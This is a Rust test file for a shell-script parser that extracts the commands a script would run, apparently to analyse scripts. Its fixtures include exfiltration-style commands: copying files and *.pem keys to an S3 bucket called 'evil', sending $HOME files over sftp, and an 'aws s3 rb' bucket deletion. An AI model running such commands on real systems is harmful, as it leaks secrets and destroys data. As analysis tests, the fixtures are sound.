//! Scripts, and the commands that a reader would find in them.

use super::*;

fn read(script: &str) -> Vec<String> {
    let outside = |name: &str| match name {
        "HOME" => Some("/Users/a".to_owned()),
        "DEST" => Some("evil".to_owned()),
        _ => None,
    };
    let calls = commands(script, &outside);
    let spelled = |call: &Call| {
        let env = call.env.iter().map(|(name, value)| format!("{name}={value}"));
        let words = call.words.iter().map(ToString::to_string);
        let input = call.input.iter().map(|text| format!("<{text}>"));
        env.chain(words).chain(input).collect::<Vec<_>>().join("_").replace(UNKNOWN, "?")
    };
    calls.iter().map(spelled).collect()
}

#[test]
fn finds_the_commands_of_a_script() {
    let table: [(&str, &[&str]); 24] = [
        (
            "cd /tmp && A=1 aws s3 presign \"s3://b/k x\"; echo 'a;b' | cat",
            &["cd_/tmp", "A=1_aws_s3_presign_s3://b/k x", "echo_a;b", "cat"],
        ),
        ("for f in a b; do cp $f s3://$DEST; done", &["cp_a_s3://evil", "cp_b_s3://evil"]),
        ("for f in *.pem\ndo\n  cp \"$f\" x\ndone", &["cp_*.pem_x"]),
        ("while read -r b; do sync s3://$b s3://evil; done < list", &["sync_s3://?_s3://evil"]),
        ("B=evil; B2=$B-2; cp x s3://${B2}/k", &["cp_x_s3://evil-2/k"]),
        ("cp x s3://${B%x}/$UNSET", &["cp_x_s3://?/?"]),
        ("if true; then a b; else c; fi", &["true", "a_b", "c"]),
        ("(a; b) || { c; }", &["a", "b", "c"]),
        ("coproc a; ! b; time c", &["a", "b", "c"]),
        ("function f { a; }; g() { b; }; f", &["a", "g", "b", "f"]),
        ("cp $(pick s3://x) y", &["pick_s3://x", "cp_?_y"]),
        ("cp `pick` y; z", &["pick", "cp_?_y", "z"]),
        ("put <(tar c x) y", &["tar_c_x", "put_?_y"]),
        ("a >out 2>&1 b </dev/null &>x c", &["a_b_c"]),
        ("sftp h <<< \"put $HOME/x\"", &["sftp_h_<put /Users/a/x>"]),
        ("sftp h <<EOF\nput x\nEOF\nls", &["sftp_h_<put x\n>", "ls"]),
        ("cat <<-'END' | tee\n\taws s3 rb\n\tEND\nls", &["cat", "tee", "ls"]),
        ("export A=b; run $A # not this; nor this\nmore", &["run_b", "more"]),
        ("echo \"a\\\"b\" \\; c", &["echo_a\"b_;_c"]),
        ("for a in 1 2; do for b in x y; do c $a$b; done; done", &["c_1x", "c_1y", "c_2x", "c_2y"]),
        ("for f; do cp $f x; done", &["cp_?_x"]),
        ("'open", &["open"]),
        ("", &[]),
        ("$(", &["?"]),
    ];
    for (script, expected) in table {
        assert_eq!(read(script), expected, "{script}");
    }
}

#[test]
fn bounded_whatever_is_written() {
    let many = "for a in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18; do x $a; done; ".repeat(50);
    assert!(read(&many).len() <= MAX_COMMANDS);
    assert!(read(&"$(".repeat(10_000)).len() <= MAX_COMMANDS);
    let doubling = format!("A=xxxxxxxx; {}x $A", "A=$A$A$A$A; ".repeat(40));
    assert!(read(&doubling).iter().all(|call| call.len() <= 2 * MAX_VALUE));
}
